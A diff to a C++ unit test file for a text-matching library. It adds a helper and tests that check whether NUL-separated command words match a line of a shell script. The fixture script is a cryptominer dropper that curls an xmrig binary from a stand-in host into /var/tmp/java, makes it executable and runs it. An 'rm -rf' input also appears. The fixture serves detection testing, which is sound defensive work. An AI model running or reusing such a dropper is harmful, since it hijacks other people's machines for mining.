@@ -36,6 +36,18 @@ bool runs(std::string_view stream, std::string_view code)
     return davy_match_end(&sample, &state);
 }
 
+// A command line has a NUL behind each word.
+bool is_line_of(std::string_view stream, std::string_view command)
+{
+    davy_text_sample sample = sample_of(stream);
+    davy_text_state state;
+    davy_text_begin(&state);
+    for (char byte : command)
+        davy_match_step(&sample, &state, davy_match_command_byte(static_cast<std::uint8_t>(byte)));
+    davy_match_end(&sample, &state);
+    return davy_match_command(&state);
+}
+
 const std::string kScript = "#!/bin/bash\nset -e\nWALLET=4ABCDEF\n"
                             "curl -fsSL http://u/xmrig -o /var/tmp/java\n"
                             "chmod +x /var/tmp/java\n/var/tmp/java -c w.conf &\n";
@@ -73,6 +85,15 @@ TEST(TextMatch, Table)
 {
     for (const Case& one : kCases)
         EXPECT_EQ(runs(one.stream, one.code), one.expected) << one.name;
+}
+
+TEST(TextMatch, ACommandLineIsALine)
+{
+    using namespace std::string_literals;
+    EXPECT_TRUE(is_line_of(kScript, "chmod\0+x\0/var/tmp/java\0"s));
+    EXPECT_FALSE(is_line_of(kScript, "echo\0chmod +x /var/tmp/java\0"s));
+    EXPECT_FALSE(is_line_of("one\nhost.example.org\n", "logger\0one\nhost.example.org\0"s));
+    EXPECT_FALSE(is_line_of("rm -rf x\n", "rm\0-rf\0x\0"s)) << "too short to prove anything";
 }
 
 // An unquoted command substitution: runs of blanks and newlines become one blank.
